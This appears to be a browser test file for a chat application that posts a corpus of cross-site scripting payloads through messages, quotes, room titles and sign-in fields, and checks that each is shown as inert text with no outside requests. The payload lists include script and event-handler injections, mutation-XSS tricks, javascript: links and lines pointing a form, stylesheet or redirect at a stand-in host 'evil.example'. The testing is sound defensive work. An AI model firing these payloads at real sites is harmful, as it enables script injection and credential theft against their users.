import { beforeEach, expect, test } from 'vitest'
import { UNLIMITED } from '../faults/tools/scale.ts'
import { eventually, openForAll, type Tab } from '../helpers/browser.ts'
import { newName, ownRoom, say, takeSeat } from '../helpers/seats.ts'
import type { Person } from '../helpers/town.ts'
import { atHeldLine } from './tools/line.ts'

/** Each would call `pwned`, leave the town, or pass for a part of the page, were it more than text. */
const CORPUS = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '</textarea></title></article><script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script href="data:text/javascript,pwned()"/></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<input autofocus onfocus=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object><embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css><style>body{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/"><base href=//evil.example/>',
  '<form action=//evil.example/><input name=password type=password></form>',
  '<article class="msg" id="message-1" data-seq="999999999">in its place</article>',
  '<div id="here">clobbered</div><img name="body">',
  '--><script>pwned()</script><!--',
  '"><script>pwned()</script>',
  "' onmouseover='pwned()",
  '<% pwned() %><%~ it.me %>{{constructor.constructor("pwned()")()}}',
  '&lt;script&gt;pwned()&lt;/script&gt;',
]
/** Their marks are taken as marks, and nothing else is. */
const MARKED = [
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt&colon;pwned())',
  '[x](data:text/html,<script>pwned()</script>)',
  '[x](https://a.example/"onmouseover="pwned())',
  '![x](https://evil.example/x.png"onerror="pwned())',
  'https://a.example/"><script>pwned()</script>',
  '<javascript:pwned()>',
  '**<b onclick=pwned()>x</b>**',
  '`<img src=x onerror=pwned()>`',
  '```"><script>\n</code></pre><script>pwned()</script>\n```',
  '> <script>pwned()</script>',
  '/me <img src=x onerror=pwned()>',
  '@<img src=x onerror=pwned()>',
]

const { town, browser } = openForAll({ workers: 1, env: UNLIMITED })
const outside: string[] = []
beforeEach(() => void outside.splice(0))

/** A page that notes whether anything ran, asked, or went outside. */
async function watched(person: Person, path: string): Promise<Tab> {
  const profile = await browser.profile(person)
  await profile.addInitScript(() => {
    Object.assign(window, { pwned: () => document.documentElement.setAttribute('data-pwned', '') })
  })
  const tab = await browser.tab(profile, { path })
  tab.page.on('request', (request) => !request.url().startsWith(town.url) && outside.push(request.url()))
  tab.page.on('dialog', (dialog) => outside.push(`asked: ${dialog.message()}`))
  await tab.live()
  return tab
}

/** All that stands in the page and that no template of ours makes. */
const strange = (tab: Tab) =>
  tab.page.evaluate(() => {
    const written =
      /^<(p|br|strong|em|b( class="mention")?|blockquote|code|pre tabindex="0"|(div|span)( class="(codeblk|codeblk__h|glass| )+")?|a( (href="(https?:|mailto:|\/rooms\/|\/@)[^"]*"|rel="noopener nofollow ugc"|tabindex="-?[01]"))+)>/
    const made = [...document.querySelectorAll('.msg__b *')].filter((part) => !written.test(part.outerHTML))
    const armed = [...document.querySelectorAll('*')].filter((part) => part.getAttributeNames().some((name) => name.startsWith('on')))
    const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].filter((link) => !/^https?:$/.test(link.protocol))
    const foreign = [
      ...document.querySelectorAll('main :is(script:not([type="text/html"]), iframe, object, embed, img, base, meta, link, style, math)'),
    ]
    return [...made, ...armed, ...links, ...foreign].map((part) => part.outerHTML)
  })

async function expectInert(tab: Tab): Promise<void> {
  expect(await strange(tab)).toEqual([])
  expect(await tab.page.evaluate(() => document.documentElement.hasAttribute('data-pwned'))).toBe(false)
  expect(outside).toEqual([])
  // What the policy had to refuse would have been a hole without it.
  expect(browser.complaints).toEqual([])
}

test('hostile lines are text: as they come live, on a fresh page, edited, quoted, and where they call somebody', async () => {
  const [anna, bert] = [town.account(newName('anna')), town.account(newName('bert'))]
  const { name: room } = await ownRoom(town, { by: bert })
  const his = await takeSeat(town, bert, { room })
  const hers = await watched(anna, `/rooms/${room}`)
  for (const text of [...CORPUS, ...MARKED]) await say(his, text)
  await eventually(async () => (await hers.shown()).length).toBe(CORPUS.length + MARKED.length)
  expect((await hers.texts()).slice(0, CORPUS.length)).toEqual(CORPUS)
  await expectInert(hers)
  // Whatever waits for a pointer.
  for (const message of await hers.page.locator('.msg__b a').all()) await message.hover()
  await expectInert(hers)

  const { id } = await say(his, 'harmless')
  await say(his, 'an answer', { reply_to: id })
  for (const text of CORPUS) await his.ask('edit_message', { id, content: `${text} @${anna.name}` })
  await eventually(() => hers.message('an answer').locator('.quote').innerText()).toContain('pwned()')
  await expectInert(hers)

  await hers.reload()
  await hers.live()
  await expectInert(hers)
  for (const path of ['/mentions', `/rooms/${room}/${id}`]) {
    await hers.open(path)
    expect(await hers.text('main')).toContain('pwned()')
    await expectInert(hers)
  }
})

test('hostile names of rooms are text: in the head, in the rail, in the list, in the settings, live and on a fresh page', async () => {
  const carl = town.account(newName('carl'))
  const { name: room } = await ownRoom(town, { by: carl })
  const hers = await browser.window(carl, { path: `/rooms/${room}` })
  const title = '<img src=x onerror=pwned()>'
  const description = '</textarea><script>pwned()</script>"><svg onload=pwned()>'
  await town.post(`/rooms/${room}/settings`, { title, description }, { as: carl })
  await eventually(() => hers.text('#room-head')).toContain(title)
  await eventually(() => hers.text('#rail-rooms')).toContain(title)
  await expectInert(hers)
  for (const path of [`/rooms/${room}`, '/rooms', `/rooms/${room}/settings`]) {
    await hers.open(path)
    expect(await hers.page.locator('main').innerHTML()).toContain('onerror=pwned()')
    await expectInert(hers)
  }
  expect(await hers.page.getByLabel('What it is for').inputValue()).toBe(description)
})

test('hostile words that were typed come back as text: in a refused form, in a draft, in the outbox', async () => {
  const dora = town.account(newName('dora'))
  const tab = await browser.visit(null, '/sign-in')
  const name = '"><script>pwned()</script>'
  await tab.page.getByLabel('Name', { exact: true }).fill(name)
  await tab.page.getByLabel('Password', { exact: true }).fill('whatever it is')
  await tab.page.getByRole('button', { name: 'Come in' }).click()
  await tab.page.getByRole('alert').waitFor()
  expect(await tab.page.getByLabel('Name', { exact: true }).inputValue()).toBe(name)
  await expectInert(tab)

  const { hers, line } = await atHeldLine(browser, dora)
  await hers.field.fill(name)
  await eventually(() => hers.page.evaluate(() => localStorage.length)).toBe(1)
  await hers.reload()
  await hers.live()
  expect(await hers.field.inputValue()).toBe(name)
  await line.down()
  await hers.field.press('Enter')
  await eventually(() => hers.page.locator('#outbox .out__t').allInnerTexts()).toEqual([name])
  await expectInert(hers)
})
